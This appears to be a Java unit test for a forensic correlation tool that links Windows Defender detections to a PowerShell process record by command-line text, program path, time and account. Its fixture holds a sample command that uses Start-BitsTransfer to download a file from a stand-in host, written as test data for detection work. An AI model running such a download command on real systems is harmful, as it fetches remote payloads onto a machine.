package org.bitshound.correlation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.bitshound.correlation.Said.SYSMON;
import static org.bitshound.correlation.Said.process;
import static org.bitshound.correlation.Said.source;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalLong;
import org.bitshound.casefile.Case;
import org.bitshound.casefile.Detection;
import org.bitshound.casefile.Match;
import org.bitshound.observation.Observation;
import org.bitshound.observation.ProcessReference;
import org.bitshound.observation.ProcessStarted.Account;
import org.bitshound.observation.ThreatDetected;
import org.junit.jupiter.api.Test;

/// A command that fetches by BITS, and what Defender found near it.
class ScriptFindsTest {
  private static final String POWERSHELL =
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  private static final String LINE =
      "powershell.exe -c \"Start-BitsTransfer -Source http://x.example/a -Destination C:\\a\"";

  private static List<Detection> detections(ThreatDetected... threats) {
    var records = new ArrayList<Observation>();
    records.add(process(SYSMON, "10:05:00", 2, 5000, POWERSHELL, LINE, 900));
    records.addAll(List.of(threats));
    records.sort(EvidenceOrder.OF_OBSERVATIONS);
    var fold = new HostFold(Knowledge.builtIn(), new Readings());
    records.forEach(fold::apply);
    Case.Draft one = fold.finish("host01").cases().getFirst();
    assertThat(one.evidence).hasSize(1 + one.detections.size());
    return one.detections;
  }

  private static ThreatDetected found(
      String time, List<String> lines, List<String> scripts, String user) {
    return new ThreatDetected(
        source("Microsoft-Windows-Windows Defender", 1116, time, 70),
        false,
        Optional.empty(),
        Optional.of("Trojan:PowerShell/X"),
        Optional.of("Severe"),
        List.of(),
        List.of(),
        lines,
        scripts,
        new ProcessReference(
            OptionalLong.empty(),
            Optional.empty(),
            OptionalLong.empty(),
            Optional.empty(),
            new Account(
                Optional.of(user).filter(name -> !name.isEmpty()),
                Optional.empty(),
                OptionalLong.empty())),
        Optional.empty(),
        Optional.empty());
  }

  @Test
  void findInACommandLineIsTiedByItsText() {
    String spelled = LINE.replace("\"", "").replace(" -c ", "  -C ");
    Detection one = detections(found("10:05:01", List.of(spelled), List.of(), "")).getFirst();

    assertThat(one.kind()).isEqualTo("command-line");
    assertThat(one.match()).isEqualTo(Match.EXACT);
    assertThat(one.threat()).contains("Trojan:PowerShell/X");
    assertThat(one.evidence()).isNotEmpty();
  }

  @Test
  void findByAmsiIsTiedByTheProgramWithinAMinuteAndIsPossible() {
    Detection one = detections(found("10:05:01", List.of(), List.of(POWERSHELL), "")).getFirst();

    assertThat(one.kind()).isEqualTo("amsi");
    assertThat(one.file()).contains(POWERSHELL);
    assertThat(one.match()).isEqualTo(Match.POSSIBLE);
  }

  @Test
  void anotherTextTimeProgramOrAccountIsNoFindInIt() {
    assertThat(detections(found("10:05:01", List.of("powershell.exe -c other"), List.of(), "")))
        .isEmpty();
    assertThat(detections(found("10:16:01", List.of(LINE), List.of(), ""))).isEmpty();
    assertThat(detections(found("10:06:01", List.of(), List.of(POWERSHELL), ""))).isEmpty();
    assertThat(detections(found("10:05:01", List.of(), List.of("C:\\other.exe"), ""))).isEmpty();
    assertThat(detections(found("10:05:01", List.of(), List.of(POWERSHELL), "PC\\nobody")))
        .isEmpty();
  }
}
